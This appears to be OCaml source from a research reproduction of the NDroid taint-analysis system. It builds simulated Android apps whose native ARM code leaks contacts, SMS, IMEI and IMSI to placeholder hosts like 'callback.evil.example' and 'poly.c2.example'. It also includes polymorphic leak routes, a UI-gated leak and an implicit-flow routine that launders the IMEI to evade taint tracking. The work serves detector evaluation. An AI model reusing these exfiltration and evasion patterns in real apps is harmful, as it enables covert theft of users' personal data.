      Asm.I (Insn.mov 6 (Insn.Reg 0));
      Asm.La (1, "dest");
      Asm.Call "connect";
      Asm.I (Insn.mov 0 (Insn.Reg 6));
      Asm.I (Insn.mov 1 (Insn.Reg 4));
      Asm.I (Insn.mov 2 (Insn.Reg 5));
      Asm.Call "send";
      Asm.I (Insn.mov 0 (Insn.Imm 0));
      Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.pc ]);
      Asm.Align4;
      Asm.Label "dest";
      Asm.Asciz "sync.backend.example" ]

(* a handler that bumps the state machine iff it is in [expected] *)
let step_handler name ~expected =
  J.method_ ~cls ~name ~shorty:"V" ~registers:6
    [ J.I (B.Sget (0, state));
      J.I (B.Const (1, Dvalue.Int (Int32.of_int expected)));
      J.If_l (B.Ne, 0, 1, "reset");
      J.I (B.Binop_lit (B.Add, 0, 0, 1l));
      J.I (B.Sput (0, state));
      J.I B.Return_void;
      J.L "reset";
      J.I (B.Const (0, Dvalue.Int 0l));
      J.I (B.Sput (0, state));
      J.I B.Return_void ]

let reset_handler name =
  J.method_ ~cls ~name ~shorty:"V" ~registers:4
    [ J.I (B.Const (0, Dvalue.Int 0l)); J.I (B.Sput (0, state));
      J.I B.Return_void ]

let gated_classes =
  [ J.class_ ~name:cls ~super:"Ljava/lang/Object;" ~static_fields:[ "state" ]
      [ J.native_method ~cls ~name:"exfil" ~shorty:"IL" "exfil";
        reset_handler "home";
        reset_handler "about";
        step_handler "settings" ~expected:0;
        step_handler "account" ~expected:1;
        step_handler "sync" ~expected:2;
        (* upload: leaks only when the state machine reached 3 *)
        J.method_ ~cls ~name:"upload" ~shorty:"V" ~registers:6
          [ J.I (B.Sget (0, state));
            J.I (B.Const (1, Dvalue.Int 3l));
            J.If_l (B.Ne, 0, 1, "no");
            J.I (B.Const (2, Dvalue.Int 0l));
            J.I
              (B.Invoke
                 ( B.Static,
                   { B.m_class = "Landroid/provider/ContactsProvider;";
                     m_name = "queryAll" },
                   [] ));
            J.I (B.Move_result 3);
            J.I (B.Invoke (B.Static, { B.m_class = cls; m_name = "exfil" }, [ 3 ]));
            J.L "no";
            J.I (B.Const (0, Dvalue.Int 0l));
            J.I (B.Sput (0, state));
            J.I B.Return_void ];
        (* the harness entry point exists but does nothing on its own *)
        reset_handler "main" ] ]

let gated_app =
  { app =
      { Harness.app_name = "gated";
        app_case = "input generation";
        description =
          "contacts leak gated behind the UI path settings -> account -> sync -> upload";
        classes = gated_classes;
        build_libs = (fun extern -> [ ("gated", exfil_lib extern) ]);
        entry = (cls, "main");
        expected_sink = "send" };
    handlers = [ "home"; "about"; "settings"; "account"; "sync"; "upload" ] }

let gated_script = [ "settings"; "account"; "sync"; "upload" ]

let discovery_rate ~seeds ~events ~mode ui =
  let found = ref 0 in
  for seed = 1 to seeds do
    if (drive_random ~seed ~events ~mode ui).leaked then incr found
  done;
  !found
