(** Polymorphic JNI malware.

    The paper's conclusion: NDroid can "discover polymorphic malicious apps
    realized by JNI" — apps whose native code selects a different leak
    route at runtime, so no single Java-visible signature exists.

    One native function, three morphs chosen by a route argument computed at
    runtime: direct native [send] (case 2), native file write through
    [fopen]/[fprintf] (case 2, different sink), and rebuild-and-callback
    through [NewStringUTF] + [CallStaticVoidMethod] (case 3 shape).  The
    route dispatch is native conditional branches, so the instruction tracer
    crosses live control flow on every run. *)

val variants : Harness.app list
(** Three apps, one per morph, sharing the same classes and native library.
    Every one must be detected by NDroid and missed by TaintDroid. *)

val variant_names : string list
