(** CF-Bench-like workloads (experiment E8, Fig. 10).

    The paper measures NDroid's overhead by running Chainfire's CF-Bench on
    NDroid and on a vanilla emulator and reporting the per-category
    slowdown.  These are the same sixteen categories: native and Java
    integer throughput (MIPS), single/double float throughput
    (MSFLOPS/MDFLOPS), allocator churn (MALLOCS), memory read/write in both
    worlds, disk read/write, and the aggregate Native/Java/Overall scores.

    Native workloads are real ARM (or VFP) loops in a native library —
    which is exactly why they are expensive under instruction-level
    instrumentation — while the allocator and disk workloads spend their
    time inside modeled libc functions, which is why NDroid barely slows
    them down (Sec. V-D). *)

type kind = Native | Java

type workload = {
  w_name : string;  (** Fig. 10 label, e.g. "Native MIPS" *)
  w_kind : kind;
  w_run : Ndroid_runtime.Device.t -> iterations:int -> unit;
      (** run the measured body once on a booted device *)
}

val app : Harness.app
(** The benchmark app: a [CfBench] class with one Java and one native
    method per workload (entry point runs a tiny self-check of each). *)

val workloads : workload list
(** The twelve measured categories, Fig. 10 order (scores are computed by
    the bench harness from these). *)

val prepare : Ndroid_runtime.Device.t -> unit
(** Seed the virtual SD card for the disk-read workload. *)
