module Device = Ndroid_runtime.Device
module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Layout = Ndroid_emulator.Layout
module Taint = Ndroid_taint.Taint
module A = Ndroid_android

let cls = "Lcom/ndroid/demos/Evade;"
let telephony = "Landroid/telephony/TelephonyManager;"

(* void launder(String imei):
     chars = GetStringUTFChars(imei)         // bytes tainted 0x400
     for each input byte b (tainted):
       for candidate c in 0x20..0x7E:        // c is a loop counter: clean
         if b == c then out[i] = c           // stores the CLEAN register
     send(out)                               // no tag reaches the sink *)
let lib extern =
  Asm.assemble ~extern ~base:Layout.app_lib_base
    ([ Asm.Label "launder";
       Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.lr ]);
       Asm.I (Insn.mov 1 (Insn.Reg 2));
       Asm.I (Insn.mov 2 (Insn.Imm 0));
       Asm.Call "GetStringUTFChars";
       Asm.I (Insn.mov 4 (Insn.Reg 0)) (* src (tainted bytes) *);
       Asm.La (5, "out") (* dst (stays clean) *);
       (* outer loop over source bytes *)
       Asm.Label "next_byte";
       Asm.I (Insn.ldrb 6 4 0) (* b := *src — tainted *);
       Asm.I (Insn.cmp 6 (Insn.Imm 0));
       Asm.Br (Insn.EQ, "done");
       (* inner loop: find b by comparison, store the counter *)
       Asm.I (Insn.mov 7 (Insn.Imm 0x20)) (* candidate — clean *);
       Asm.Label "candidates";
       Asm.I (Insn.cmp 6 (Insn.Reg 7));
       Asm.Br (Insn.EQ, "matched");
       Asm.I (Insn.add 7 7 (Insn.Imm 1));
       Asm.I (Insn.cmp 7 (Insn.Imm 0x7F));
       Asm.Br (Insn.NE, "candidates");
       Asm.I (Insn.mov 7 (Insn.Imm 0x3F)) (* '?' fallback — clean *);
       Asm.Label "matched";
       Asm.I (Insn.strb 7 5 0) (* store the clean candidate *);
       Asm.I (Insn.add 4 4 (Insn.Imm 1));
       Asm.I (Insn.add 5 5 (Insn.Imm 1));
       Asm.Br (Insn.AL, "next_byte");
       Asm.Label "done";
       Asm.I (Insn.mov 6 (Insn.Imm 0));
       Asm.I (Insn.strb 6 5 0) (* NUL-terminate *);
       (* ship it *)
       Asm.Call "socket";
       Asm.I (Insn.mov 4 (Insn.Reg 0));
       Asm.La (1, "dest");
       Asm.Call "connect";
       Asm.La (0, "out");
       Asm.Call "strlen";
       Asm.I (Insn.mov 2 (Insn.Reg 0));
       Asm.I (Insn.mov 0 (Insn.Reg 4));
       Asm.La (1, "out");
       Asm.Call "send";
       Asm.I (Insn.mov 0 (Insn.Imm 0));
       Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.pc ]);
       Asm.Align4;
       Asm.Label "dest";
       Asm.Asciz "laundry.example";
       Asm.Align4;
       Asm.Label "out" ]
    @ List.init 16 (fun _ -> Asm.Word 0))

let app : Harness.app =
  { Harness.app_name = "control-flow-evasion";
    app_case = "Sec. VII limitation";
    description =
      "IMEI rebuilt through comparisons only (implicit flow) before a native \
       send — undetectable without control-flow taint";
    classes =
      [ J.class_ ~name:cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls ~name:"launder" ~shorty:"IL" "launder";
            J.method_ ~cls ~name:"main" ~shorty:"V"
              [ J.I (B.Invoke (B.Static, { B.m_class = telephony;
                                           m_name = "getDeviceId" }, []));
                J.I (B.Move_result 0);
                J.I (B.Invoke (B.Static, { B.m_class = cls; m_name = "launder" },
                               [ 0 ]));
                J.I B.Return_void ] ] ];
    build_libs = (fun extern -> [ ("evade", lib extern) ]);
    entry = (cls, "main");
    expected_sink = "send" }

let run_and_confirm_miss () =
  let o = Harness.run Harness.Ndroid_full app in
  let payload =
    match o.Harness.transmissions with
    | t :: _ -> Some t.A.Network.payload
    | [] -> None
  in
  ((not o.Harness.detected), payload)
