(** The control-flow evasion NDroid documents as out of scope.

    "Similar to TaintDroid and DroidScope, NDroid does not track control
    flows.  Therefore, it could be evaded by apps that use the same control
    flow based techniques for circumventing those systems" (paper,
    Sec. VII, citing Sarwar et al.).

    {!app} rebuilds the IMEI in native code {e without any data flow}: for
    each tainted input byte it compares against every candidate character
    and stores the {e loop counter} (a constant) when they match.  Table V
    has no rule that taints the stored constant — flags are never tracked —
    so the reconstructed buffer is clean, the exfiltrated copy carries no
    tag, and every analysis (NDroid included) stays silent while the data
    demonstrably leaves the device.

    This scenario exists as a {e negative} fixture: the test suite asserts
    the miss, keeping the reproduction honest about the original system's
    boundary. *)

val app : Harness.app

val run_and_confirm_miss : unit -> bool * string option
(** Run under full NDroid.  Returns (was_missed, leaked_payload): [true]
    with the IMEI in the journal means the evasion worked exactly as
    Sec. VII predicts. *)
