(** The Sec. VI manual-input batch.

    "We manually generated input and executed 8 randomly selected apps,
    which use JNI and are related to phone/SMS/contacts.  NDroid found that
    3 apps delivered the contact and SMS information to native code.  One
    app (i.e., ephone3.3) further sends out the contact information through
    native code."

    Eight apps with exactly that structure: {!ephone} leaks; two more
    ({!sms_backup}, {!contacts_widget}) hand sensitive data to native code
    that only processes it (a SourcePolicy fires, no sink is reached); the
    other five use JNI on non-sensitive data or keep sensitive data in
    Java. *)

val apps : Harness.app list
(** The batch, ePhone first. *)

type verdict = {
  v_app : string;
  delivered_to_native : bool;
      (** NDroid created a SourcePolicy: tainted data entered native code *)
  leaked : bool;
}

val examine : Harness.app -> verdict
(** Run under full NDroid with directed input. *)

val summary : unit -> verdict list
