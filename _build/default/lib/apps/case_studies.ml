module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Dvalue = Ndroid_dalvik.Dvalue
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Layout = Ndroid_emulator.Layout

let telephony = "Landroid/telephony/TelephonyManager;"
let contacts = "Landroid/provider/ContactsProvider;"
let sms = "Landroid/provider/SmsProvider;"
let socket = "Ljava/net/Socket;"
let string_cls = "Ljava/lang/String;"

let mref cls name = { B.m_class = cls; B.m_name = name }
let mov rd rm = Asm.I (Insn.mov rd (Insn.Reg rm))
let movi rd v = Asm.I (Insn.mov rd (Insn.Imm v))
let space n = List.init (n / 4) (fun _ -> Asm.Word 0)

(* ------------------------------------------------------------ QQPhoneBook *)

let qq_cls = "Lcom/tencent/tccsync/LoginUtil;"

let qq_lib extern =
  let open Asm in
  let items =
    [ (* int makeLoginRequestPackageMd5(int, 8x String, int, int)
         args[3] (the 4th parameter) carries the contacts+SMS data.
         Slots: env r0, cls r1, p0 r2, p1 r3, p2.. on the stack;
         p3 = [sp, #4] before the push, [sp, #16] after. *)
      Label "makeLoginRequestPackageMd5";
      I (Insn.push [ Insn.r4; Insn.r5; Insn.lr ]);
      mov 9 0;
      I (Insn.ldr 1 Insn.sp 16);
      movi 2 0;
      mov 0 9;
      Call "GetStringUTFChars";
      mov 4 0;
      (* stash it in the session buffer *)
      La (0, "session");
      mov 1 4;
      Call "strcpy";
      (* "md5": walk the buffer byte by byte — every iteration is traced by
         the instruction tracer, exercising the LDRB/ADD/STRB rules *)
      La (1, "session");
      Label "mloop";
      I (Insn.ldrb 2 1 0);
      I (Insn.cmp 2 (Insn.Imm 0));
      Br (Insn.EQ, "mdone");
      I (Insn.eor 2 2 (Insn.Imm 0));
      I (Insn.strb 2 1 0);
      I (Insn.add 1 1 (Insn.Imm 1));
      Br (Insn.AL, "mloop");
      Label "mdone";
      movi 0 0;
      I (Insn.pop [ Insn.r4; Insn.r5; Insn.pc ]);

      (* String getPostUrl(int) — no tainted parameters. *)
      Label "getPostUrl";
      I (Insn.push [ Insn.r4; Insn.lr ]);
      mov 9 0;
      La (0, "urlbuf");
      La (1, "urlfmt");
      La (2, "session");
      Call "sprintf";
      mov 0 9;
      La (1, "urlbuf");
      Call "NewStringUTF";
      I (Insn.pop [ Insn.r4; Insn.pc ]);

      Align4;
      Label "urlfmt";
      Asciz "http://sync.3g.qq.com/xpimlogin?sid=%s";
      Align4;
      Label "session" ]
    @ space 128
    @ [ Label "urlbuf" ]
    @ space 192
  in
  assemble ~extern ~base:Layout.app_lib_base items

let qq_phonebook : Harness.app =
  let main =
    [ (* the sensitive payload: contacts + SMS, taint 0x202 *)
      J.I (B.Invoke (B.Static, mref contacts "queryAll", []));
      J.I (B.Move_result 0);
      J.I (B.Const (12, Dvalue.Int 0l));
      J.I (B.Invoke (B.Static, mref sms "getSmsBody", [ 12 ]));
      J.I (B.Move_result 1);
      J.I (B.Invoke (B.Virtual, mref string_cls "concat", [ 0; 1 ]));
      J.I (B.Move_result 3);
      (* the other ten arguments are boring *)
      J.I (B.Const (0, Dvalue.Int 3l));
      J.I (B.Const_string (1, "qquser"));
      J.I (B.Const_string (2, "qqpass"));
      J.I (B.Const_string (4, "f4"));
      J.I (B.Const_string (5, "f5"));
      J.I (B.Const_string (6, "f6"));
      J.I (B.Const_string (7, "f7"));
      J.I (B.Const_string (8, "f8"));
      J.I (B.Const (9, Dvalue.Int 1l));
      J.I (B.Const (10, Dvalue.Int 2l));
      J.I
        (B.Invoke
           ( B.Static,
             mref qq_cls "makeLoginRequestPackageMd5",
             [ 0; 1; 2; 3; 4; 5; 6; 7; 8; 9; 10 ] ));
      J.I (B.Move_result 11);
      (* second call: clean parameters, tainted result under NDroid only *)
      J.I (B.Const (12, Dvalue.Int 0l));
      J.I (B.Invoke (B.Static, mref qq_cls "getPostUrl", [ 12 ]));
      J.I (B.Move_result 13);
      J.I (B.Const_string (14, "info.3g.qq.com"));
      J.I (B.Invoke (B.Static, mref socket "send", [ 14; 13 ]));
      J.I B.Return_void ]
  in
  { Harness.app_name = "QQPhoneBook3.5";
    app_case = "case 1'";
    description =
      "contacts+SMS (0x202) -> makeLoginRequestPackageMd5 -> session buffer \
       -> getPostUrl/sprintf/NewStringUTF -> Java send to sync.3g.qq.com";
    classes =
      [ J.class_ ~name:qq_cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls:qq_cls ~name:"makeLoginRequestPackageMd5"
              ~shorty:"IILLLLLLLLII" "makeLoginRequestPackageMd5";
            J.native_method ~cls:qq_cls ~name:"getPostUrl" ~shorty:"LI"
              "getPostUrl";
            J.method_ ~cls:qq_cls ~name:"main" ~shorty:"V" ~registers:16 main ] ];
    build_libs = (fun extern -> [ ("tccsync", qq_lib extern) ]);
    entry = (qq_cls, "main");
    expected_sink = "Socket.send" }

(* ----------------------------------------------------------------- ePhone *)

let ephone_cls = "Lcom/vnet/asip/general/general;"

let ephone_lib extern =
  let open Asm in
  let items =
    [ (* int callregister(7x String, int, int): args[2] is the phone number.
         p2 = first stack slot = [sp, #20] after pushing 5 registers. *)
      Label "callregister";
      I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.lr ]);
      mov 9 0;
      I (Insn.ldr 1 Insn.sp 20);
      movi 2 0;
      mov 0 9;
      Call "GetStringUTFChars";
      mov 4 0;
      (* sprintf(msg, REGISTER...From: "%s", phone) *)
      La (0, "msg");
      La (1, "sipfmt");
      mov 2 4;
      Call "sprintf";
      (* memcpy(out, msg, 128) — the Fig. 7 call chain *)
      La (0, "out");
      La (1, "msg");
      movi 2 128;
      Call "memcpy";
      La (0, "out");
      Call "strlen";
      mov 5 0;
      Call "socket";
      mov 6 0;
      (* sendto(fd, out, len, 0, "softphone.comwave.net", _) *)
      La (7, "sipdest");
      I (Insn.push [ Insn.r7 ]);
      mov 0 6;
      La (1, "out");
      mov 2 5;
      movi 3 0;
      Call "sendto";
      I (Insn.add 13 13 (Insn.Imm 4));
      movi 0 0;
      I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.pc ]);
      Align4;
      Label "sipfmt";
      Asciz "REGISTER sip:softphone.comwave.net SIP/2.0 Via: SIP/2.0/UDP From: \"%s\"";
      Label "sipdest";
      Asciz "softphone.comwave.net";
      Align4;
      Label "msg" ]
    @ space 192
    @ [ Label "out" ]
    @ space 192
  in
  assemble ~extern ~base:Layout.app_lib_base items

let ephone : Harness.app =
  let main =
    [ J.I (B.Const (9, Dvalue.Int 0l));
      J.I (B.Invoke (B.Static, mref contacts "getContactPhone", [ 9 ]));
      J.I (B.Move_result 2);
      J.I (B.Const_string (0, "sip-user"));
      J.I (B.Const_string (1, "comwave"));
      J.I (B.Const_string (3, "udp"));
      J.I (B.Const_string (4, "5060"));
      J.I (B.Const_string (5, "auth"));
      J.I (B.Const_string (6, "realm"));
      J.I (B.Const (7, Dvalue.Int 1l));
      J.I (B.Const (8, Dvalue.Int 2l));
      J.I
        (B.Invoke (B.Static, mref ephone_cls "callregister",
                   [ 0; 1; 2; 3; 4; 5; 6; 7; 8 ]));
      J.I B.Return_void ]
  in
  { Harness.app_name = "ePhone3.3";
    app_case = "case 2";
    description =
      "contact phone (0x2) -> callregister -> GetStringUTFChars -> \
       sprintf/memcpy -> sendto softphone.comwave.net";
    classes =
      [ J.class_ ~name:ephone_cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls:ephone_cls ~name:"callregister"
              ~shorty:"ILLLLLLLII" "callregister";
            J.method_ ~cls:ephone_cls ~name:"main" ~shorty:"V" ~registers:12 main ] ];
    build_libs = (fun extern -> [ ("asip", ephone_lib extern) ]);
    entry = (ephone_cls, "main");
    expected_sink = "sendto" }

(* ------------------------------------------------------------- PoC case 2 *)

let demos_cls = "Lcom/ndroid/demos/Demos;"

let poc2_lib extern =
  let open Asm in
  let items =
    [ (* boolean recordContact(String id, String name, String email)
         slots: env r0, cls r1, id r2, name r3, email [sp] -> [sp, #20]. *)
      Label "recordContact";
      I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.lr ]);
      mov 9 0;
      (* id chars *)
      mov 1 2;
      movi 2 0;
      mov 0 9;
      Call "GetStringUTFChars";
      mov 4 0;
      (* name chars *)
      mov 1 3;
      movi 2 0;
      mov 0 9;
      Call "GetStringUTFChars";
      mov 5 0;
      (* email chars (stack argument) *)
      I (Insn.ldr 1 Insn.sp 20);
      movi 2 0;
      mov 0 9;
      Call "GetStringUTFChars";
      mov 6 0;
      (* FILE* f = fopen("/sdcard/CONTACTS", "a") *)
      La (0, "path");
      La (1, "fmode");
      Call "fopen";
      mov 7 0;
      (* fprintf(f, "%s %s %s  ", id, name, email) *)
      I (Insn.push [ Insn.r6 ]);
      mov 0 7;
      La (1, "fmt");
      mov 2 4;
      mov 3 5;
      Call "fprintf";
      I (Insn.add 13 13 (Insn.Imm 4));
      (* fclose(f) *)
      mov 0 7;
      Call "fclose";
      movi 0 1;
      I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.pc ]);
      Align4;
      Label "path";
      Asciz "/sdcard/CONTACTS";
      Label "fmode";
      Asciz "a";
      Label "fmt";
      Asciz "%s %s %s  " ]
  in
  assemble ~extern ~base:Layout.app_lib_base items

let poc_case2 : Harness.app =
  let main =
    [ J.I (B.Const (4, Dvalue.Int 0l));
      J.I (B.Invoke (B.Static, mref contacts "getContactId", [ 4 ]));
      J.I (B.Move_result 0);
      J.I (B.Invoke (B.Static, mref contacts "getContactName", [ 4 ]));
      J.I (B.Move_result 1);
      J.I (B.Invoke (B.Static, mref contacts "getContactEmail", [ 4 ]));
      J.I (B.Move_result 2);
      J.I (B.Invoke (B.Static, mref demos_cls "recordContact", [ 0; 1; 2 ]));
      J.I (B.Move_result 3);
      J.I B.Return_void ]
  in
  { Harness.app_name = "PoC-case2";
    app_case = "case 2";
    description =
      "contact id/name/email (0x2) -> recordContact -> fopen + fprintf to \
       /sdcard/CONTACTS (Fig. 8)";
    classes =
      [ J.class_ ~name:demos_cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls:demos_cls ~name:"recordContact" ~shorty:"ZLLL"
              "recordContact";
            J.method_ ~cls:demos_cls ~name:"main" ~shorty:"V" main ] ];
    build_libs = (fun extern -> [ ("demos", poc2_lib extern) ]);
    entry = (demos_cls, "main");
    expected_sink = "fprintf" }

(* ------------------------------------------------------------- PoC case 3 *)

let poc3_lib extern =
  let open Asm in
  let items =
    [ (* void evadeTaintDroid(String deviceInfo) *)
      Label "evadeTaintDroid";
      I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.lr ]);
      mov 9 0;
      (* chars = GetStringUTFChars(env, info, NULL) *)
      mov 1 2;
      movi 2 0;
      Call "GetStringUTFChars";
      mov 4 0;
      (* newstr = NewStringUTF(env, chars) — step 1 of Fig. 9 *)
      mov 0 9;
      mov 1 4;
      Call "NewStringUTF";
      mov 5 0;
      (* cls = FindClass("Lcom/ndroid/demos/Demos;") *)
      mov 0 9;
      La (1, "cb_cls");
      Call "FindClass";
      mov 6 0;
      (* mid = GetStaticMethodID(cls, "nativeCallback", "(Ljava/lang/String;)V") *)
      mov 0 9;
      mov 1 6;
      La (2, "cb_name");
      La (3, "cb_sig");
      Call "GetStaticMethodID";
      (* CallStaticVoidMethod(env, cls, mid, newstr) — step 2 *)
      mov 2 0;
      mov 1 6;
      mov 3 5;
      mov 0 9;
      Call "CallStaticVoidMethod";
      I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.pc ]);
      Align4;
      Label "cb_cls";
      Asciz "Lcom/ndroid/demos/Demos;";
      Label "cb_name";
      Asciz "nativeCallback";
      Label "cb_sig";
      Asciz "(Ljava/lang/String;)V" ]
  in
  assemble ~extern ~base:Layout.app_lib_base items

let poc_case3 : Harness.app =
  let main =
    [ (* device info with combined taint 0x1602 = imei|iccid|sms|contacts *)
      J.I (B.Invoke (B.Static, mref telephony "getDeviceId", []));
      J.I (B.Move_result 0);
      J.I (B.Invoke (B.Static, mref telephony "getSimSerialNumber", []));
      J.I (B.Move_result 1);
      J.I (B.Invoke (B.Virtual, mref string_cls "concat", [ 0; 1 ]));
      J.I (B.Move_result 0);
      J.I (B.Const (4, Dvalue.Int 0l));
      J.I (B.Invoke (B.Static, mref sms "getSmsBody", [ 4 ]));
      J.I (B.Move_result 1);
      J.I (B.Invoke (B.Virtual, mref string_cls "concat", [ 0; 1 ]));
      J.I (B.Move_result 0);
      J.I (B.Invoke (B.Static, mref contacts "getContactName", [ 4 ]));
      J.I (B.Move_result 1);
      J.I (B.Invoke (B.Virtual, mref string_cls "concat", [ 0; 1 ]));
      J.I (B.Move_result 0);
      J.I (B.Invoke (B.Static, mref demos_cls "evadeTaintDroid", [ 0 ]));
      J.I B.Return_void ]
  in
  let native_callback =
    (* void nativeCallback(String s) { Socket.send("callback...", s); } *)
    [ J.I (B.Const_string (0, "callback.evil.example"));
      J.I (B.Invoke (B.Static, mref socket "send", [ 0; 4 ]));
      J.I B.Return_void ]
  in
  { Harness.app_name = "PoC-case3";
    app_case = "case 3 (Fig. 9 PoC)";
    description =
      "device info (0x1602) -> evadeTaintDroid -> NewStringUTF -> \
       CallStaticVoidMethod(nativeCallback) -> Java send";
    classes =
      [ J.class_ ~name:demos_cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls:demos_cls ~name:"evadeTaintDroid" ~shorty:"VL"
              "evadeTaintDroid";
            J.method_ ~cls:demos_cls ~name:"nativeCallback" ~shorty:"VL"
              ~registers:5 native_callback;
            J.method_ ~cls:demos_cls ~name:"main" ~shorty:"V" main ] ];
    build_libs = (fun extern -> [ ("demos3", poc3_lib extern) ]);
    entry = (demos_cls, "main");
    expected_sink = "Socket.send" }

let all = [ qq_phonebook; ephone; poc_case2; poc_case3 ]
