module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Dvalue = Ndroid_dalvik.Dvalue
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Layout = Ndroid_emulator.Layout

let cls = "Lcom/ndroid/demos/Poly;"
let telephony = "Landroid/telephony/TelephonyManager;"
let socket = "Ljava/net/Socket;"

let mov rd rm = Asm.I (Insn.mov rd (Insn.Reg rm))
let movi rd v = Asm.I (Insn.mov rd (Insn.Imm v))

let lib extern =
  Asm.assemble ~extern ~base:Layout.app_lib_base
    [ (* int leak(int route, String data) *)
      Asm.Label "leak";
      Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.lr ]);
      Asm.I (Insn.mov 9 (Insn.Reg 0));
      mov 7 2 (* route *);
      (* chars = GetStringUTFChars(env, data, 0) *)
      mov 1 3;
      movi 2 0;
      Asm.I (Insn.mov 0 (Insn.Reg 9));
      Asm.Call "GetStringUTFChars";
      mov 4 0;
      Asm.Call "strlen";
      mov 5 0;
      (* morph dispatch *)
      Asm.I (Insn.cmp 7 (Insn.Imm 0));
      Asm.Br (Insn.EQ, "route_send");
      Asm.I (Insn.cmp 7 (Insn.Imm 1));
      Asm.Br (Insn.EQ, "route_file");
      (* ---- morph 2: rebuild + Java callback (case 3 shape) ---- *)
      Asm.I (Insn.mov 0 (Insn.Reg 9));
      mov 1 4;
      Asm.Call "NewStringUTF";
      mov 6 0;
      Asm.I (Insn.mov 0 (Insn.Reg 9));
      Asm.La (1, "cb_cls");
      Asm.Call "FindClass";
      mov 7 0;
      Asm.I (Insn.mov 0 (Insn.Reg 9));
      mov 1 7;
      Asm.La (2, "cb_m");
      Asm.La (3, "cb_sig");
      Asm.Call "GetStaticMethodID";
      mov 2 0;
      mov 1 7;
      mov 3 6;
      Asm.I (Insn.mov 0 (Insn.Reg 9));
      Asm.Call "CallStaticVoidMethod";
      Asm.Br (Insn.AL, "done");
      (* ---- morph 0: direct native send (case 2) ---- *)
      Asm.Label "route_send";
      Asm.Call "socket";
      mov 6 0;
      Asm.La (1, "pdest");
      Asm.Call "connect";
      mov 0 6;
      mov 1 4;
      mov 2 5;
      Asm.Call "send";
      Asm.Br (Insn.AL, "done");
      (* ---- morph 1: native file write ---- *)
      Asm.Label "route_file";
      Asm.La (0, "ppath");
      Asm.La (1, "pmode");
      Asm.Call "fopen";
      mov 6 0;
      mov 0 6;
      Asm.La (1, "pfmt");
      mov 2 4;
      Asm.Call "fprintf";
      mov 0 6;
      Asm.Call "fclose";
      Asm.Label "done";
      movi 0 0;
      Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.pc ]);
      Asm.Align4;
      Asm.Label "cb_cls";
      Asm.Asciz "Lcom/ndroid/demos/Poly;";
      Asm.Label "cb_m";
      Asm.Asciz "sinkCallback";
      Asm.Label "cb_sig";
      Asm.Asciz "(Ljava/lang/String;)V";
      Asm.Label "pdest";
      Asm.Asciz "poly.c2.example";
      Asm.Label "ppath";
      Asm.Asciz "/sdcard/.cache2";
      Asm.Label "pmode";
      Asm.Asciz "a";
      Asm.Label "pfmt";
      Asm.Asciz "%s" ]

let main_for route entry_name =
  J.method_ ~cls ~name:entry_name ~shorty:"V" ~registers:6
    [ J.I (B.Invoke (B.Static, { B.m_class = telephony;
                                 m_name = "getSubscriberId" }, []));
      J.I (B.Move_result 0);
      J.I (B.Const (1, Dvalue.Int (Int32.of_int route)));
      J.I (B.Invoke (B.Static, { B.m_class = cls; m_name = "leak" }, [ 1; 0 ]));
      J.I B.Return_void ]

let classes =
  [ J.class_ ~name:cls ~super:"Ljava/lang/Object;"
      [ J.native_method ~cls ~name:"leak" ~shorty:"IIL" "leak";
        J.method_ ~cls ~name:"sinkCallback" ~shorty:"VL" ~registers:5
          [ J.I (B.Const_string (0, "poly.cb.example"));
            J.I (B.Invoke (B.Static, { B.m_class = socket; m_name = "send" },
                           [ 0; 4 ]));
            J.I B.Return_void ];
        main_for 0 "mainNet";
        main_for 1 "mainFile";
        main_for 2 "mainCallback" ] ]

let variant route entry sink =
  { Harness.app_name = Printf.sprintf "poly-%s" route;
    app_case = "polymorphic";
    description =
      Printf.sprintf "IMSI leak, morph %s of the same native routine" route;
    classes;
    build_libs = (fun extern -> [ ("poly", lib extern) ]);
    entry = (cls, entry);
    expected_sink = sink }

let variants =
  [ variant "net" "mainNet" "send";
    variant "file" "mainFile" "fprintf";
    variant "callback" "mainCallback" "Socket.send" ]

let variant_names = List.map (fun a -> a.Harness.app_name) variants
