(** The five leak scenarios of Table I / Sec. IV, packaged as runnable apps.

    Every app moves the same kind of sensitive data along a different
    source → intermediate → sink path through JNI:

    - {!case1}: Java source → native intermediate → Java sink, where the
      tainted data rides the native method's {e return value}.  TaintDroid's
      black-box rule catches exactly this one.  (The native library is
      Thumb, exercising the second instruction set.)
    - {!case1'}: Java source → native stores it in a native buffer; a
      {e second} native call with clean parameters rebuilds a Java string
      from that buffer ([NewStringUTF]) and Java sends it.  TaintDroid
      misses it (steps 2'/2'' of Fig. 3b).
    - {!case2}: Java source → native sink ([send] from native code).
    - {!case3}: native "source" — native code pulls the data from Java
      through JNI ([CallStaticObjectMethod]), rebuilds it, and hands a {e
      new} object back for Java to send.
    - {!case4}: native pulls the data through JNI and leaks it itself
      ([sendto]) — never visible to any Java-context sink. *)

val case1 : Harness.app
val case1' : Harness.app
val case2 : Harness.app
val case3 : Harness.app
val case4 : Harness.app

val all : Harness.app list
(** In Table I order: 1, 1', 2, 3, 4. *)

val expected_taintdroid : Harness.app -> bool
(** Ground truth from the paper: does TaintDroid catch this case?
    ([true] only for case 1.) *)
